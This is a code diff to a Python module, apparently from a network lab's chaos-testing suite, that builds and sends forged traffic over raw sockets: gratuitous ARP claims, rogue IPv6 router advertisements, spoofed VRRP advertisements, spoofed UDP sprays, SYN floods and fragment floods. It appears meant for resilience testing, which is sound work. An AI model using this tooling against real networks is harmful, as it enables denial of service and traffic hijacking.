@@ -1,7 +1,7 @@
-"""What a hostile or broken neighbour puts on the wire: forged frames and floods. Standard library only.
+"""What a hostile or broken neighbour puts on the wire: forged frames and floods.
 
-Run inside a lab host as `python -I -S attack.py WHAT …`; one JSON line says how many packets went out. Real attackers
-need no more than a raw socket either.
+Run as `python -m natpair_lab.chaos.programs.attack WHAT …` inside a lab host; one JSON line says how many packets went
+out. Real attackers need no more than a raw socket either.
 """
 
 from __future__ import annotations
@@ -16,56 +16,21 @@ import sys
 import time
 from collections.abc import Callable, Iterator
 
-ETH_P_ARP, ETH_P_IP, ETH_P_IPV6 = 0x0806, 0x0800, 0x86DD
-BROADCAST = b"\xff" * 6
+from natpair.core import packets
+
 _RANDOM = random.Random(7)  # noqa: S311 - the same attack every time
 
 
-def checksum(data: bytes) -> int:
-    """The Internet checksum (RFC 1071)."""
-    if len(data) % 2:
-        data += b"\0"
-    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
-    total = (total >> 16) + (total & 0xFFFF)
-    return int(~(total + (total >> 16)) & 0xFFFF)
-
-
-def packed(address: str) -> bytes:
-    """An IPv4 address as four bytes."""
-    return ipaddress.IPv4Address(address).packed
-
-
 def ip_packet(source: str, target: str, protocol: int, payload: bytes, *, ttl: int = 64, fragment: int = 0) -> bytes:
-    """An IPv4 packet with a checksum of its own; `fragment` is the flags-and-offset field."""
+    """An IPv4 packet with an identification of its own."""
     ident = _RANDOM.randrange(65536)
-    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), ident, fragment, ttl, protocol, 0)
-    head += packed(source) + packed(target)
-    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
-
-
-def udp(sport: int, dport: int, payload: bytes) -> bytes:
-    """A UDP datagram without checksum (RFC 768 allows 0)."""
-    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+    return packets.ipv4(source, target, protocol, payload, ttl=ttl, identification=ident, fragment=fragment)
 
 
 def tcp_syn(source: str, target: str, sport: int, dport: int) -> bytes:
     """A SYN."""
     body = struct.pack("!HHIIBBHHH", sport, dport, _RANDOM.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
-    pseudo = packed(source) + packed(target) + struct.pack("!BBH", 0, 6, len(body))
-    return body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]
-
-
-def vrrp(source: str, target: str, router_id: int, priority: int, vip: str, centiseconds: int) -> bytes:
-    """A VRRPv3 advertisement (RFC 9568 section 5.1) that passes every checksum."""
-    body = struct.pack("!BBBBHH", 0x31, router_id, priority, 1, centiseconds, 0) + packed(vip)
-    pseudo = packed(source) + packed(target) + struct.pack("!BBH", 0, 112, len(body))
-    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
-
-
-def arp(mac: bytes, address: str, operation: int) -> bytes:
-    """A gratuitous ARP frame: `address` is at `mac`."""
-    body = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, operation) + mac + packed(address) + b"\0" * 6 + packed(address)
-    return BROADCAST + mac + struct.pack("!H", ETH_P_ARP) + body
+    return packets.over_ipv4(source, target, packets.TCP, body, 16)
 
 
 def router_advertisement(mac: bytes) -> bytes:
@@ -74,15 +39,15 @@ def router_advertisement(mac: bytes) -> bytes:
     target = ipaddress.IPv6Address("ff02::1").packed
     body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac
     pseudo = source + target + struct.pack("!II", len(body), 58)
-    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
+    body = packets.summed(body, 2, pseudo)
     head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
-    return bytes.fromhex("333300000001") + mac + struct.pack("!H", ETH_P_IPV6) + head + body
+    return bytes.fromhex("333300000001") + mac + struct.pack("!H", packets.ETH_IPV6) + head + body
 
 
 def own_mac(interface: str) -> bytes:
     """The hardware address of an interface."""
     with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - no pathlib under -S is no gain
-        return bytes.fromhex(file.read().strip().replace(":", ""))
+        return packets.mac_bytes(file.read().strip())
 
 
 def raw_ip() -> Callable[[bytes, str], None]:
@@ -110,18 +75,18 @@ def paced(total: int, rate: float) -> Iterator[int]:
 def garp(options: argparse.Namespace) -> int:
     """Claim an address with our own hardware address."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    link.bind((options.interface, ETH_P_ARP))
+    link.bind((options.interface, packets.ETH_ARP))
     mac = own_mac(options.interface)
     for _ in paced(options.count, options.rate):
         for operation in (1, 2):
-            link.send(arp(mac, options.source, operation))
+            link.send(packets.arp(mac, operation, options.source, options.source))
     return int(options.count) * 2
 
 
 def routers(options: argparse.Namespace) -> int:
     """Say that we are the IPv6 router."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    link.bind((options.interface, ETH_P_IPV6))
+    link.bind((options.interface, packets.ETH_IPV6))
     for _ in paced(options.count, options.rate):
         link.send(router_advertisement(own_mac(options.interface)))
     return int(options.count)
@@ -131,8 +96,8 @@ def adverts(options: argparse.Namespace) -> int:
     """VRRP advertisements in another's name."""
     send = raw_ip()
     for _ in paced(options.count, options.rate):
-        body = vrrp(options.source, options.target, options.router_id, options.priority, options.vip, 10)
-        send(ip_packet(options.source, options.target, 112, body, ttl=255), options.target)
+        body = packets.vrrp(options.source, options.target, options.router_id, options.priority, options.vip, 10)
+        send(ip_packet(options.source, options.target, packets.VRRP, body, ttl=255), options.target)
     return int(options.count)
 
 
@@ -144,7 +109,7 @@ def spray(options: argparse.Namespace) -> int:
         source = sources[number % len(sources)]
         dport = options.port or 1024 + number % 64000
         sport = 1024 + (number if options.port else number // 64000) % 64500
-        send(ip_packet(source, options.target, 17, udp(sport, dport, b"spray")), options.target)
+        send(ip_packet(source, options.target, packets.UDP, packets.udp(sport, dport, b"spray")), options.target)
     return int(options.count)
 
 
@@ -154,7 +119,7 @@ def syns(options: argparse.Namespace) -> int:
     for _ in paced(options.count, options.rate):
         sport, dport = _RANDOM.randrange(1024, 65536), _RANDOM.randrange(1, 65536)
         body = tcp_syn(options.source, options.target, sport, dport)
-        send(ip_packet(options.source, options.target, 6, body), options.target)
+        send(ip_packet(options.source, options.target, packets.TCP, body), options.target)
     return int(options.count)
 
 
@@ -162,8 +127,8 @@ def fragments(options: argparse.Namespace) -> int:
     """First fragments whose rest never comes."""
     send = raw_ip()
     for _ in paced(options.count, options.rate):
-        body = udp(_RANDOM.randrange(1024, 65536), 9, b"x" * 64)
-        send(ip_packet(options.source, options.target, 17, body, fragment=0x2000), options.target)
+        body = packets.udp(_RANDOM.randrange(1024, 65536), 9, b"x" * 64)
+        send(ip_packet(options.source, options.target, packets.UDP, body, fragment=0x2000), options.target)
     return int(options.count)
 
 
@@ -172,7 +137,10 @@ def garbage(options: argparse.Namespace) -> int:
     send = raw_ip()
     for _ in paced(options.count, options.rate):
         noise = _RANDOM.randbytes(_RANDOM.randrange(1, 600))
-        send(ip_packet(options.source, options.target, 17, udp(options.port, options.port, noise)), options.target)
+        send(
+            ip_packet(options.source, options.target, packets.UDP, packets.udp(options.port, options.port, noise)),
+            options.target,
+        )
     return int(options.count)
 
 
